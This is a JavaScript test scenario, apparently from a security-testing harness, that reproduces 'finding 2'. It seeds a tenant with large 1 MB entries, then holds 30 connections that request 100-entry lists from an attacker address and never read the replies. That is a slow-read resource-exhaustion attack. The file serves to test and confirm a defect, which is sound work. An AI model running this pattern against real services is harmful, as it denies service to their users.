import { attackerAddress } from '../addresses.mjs';
import { largeEntries } from '../seeds.mjs';
import { rawRequest } from '../toolkit.mjs';

export default {
  finding: 2,
  title:
    '30 connections that request lists of 100 entries of 1 MB each (10 connections in the short form) and never read',
  tenant: 'large',
  seconds: [8, 4],

  async setUp(t) {
    t.type = await largeEntries(t, t.size(400, 120));
  },

  async attack(t) {
    const request = rawRequest('GET', `${t.type}/entries?per_page=100`, { key: t.key });
    await t.hold(t.size(30, 10), { addressOf: attackerAddress, write: (socket) => socket.write(request) });
    await t.untilOver();
  },
};
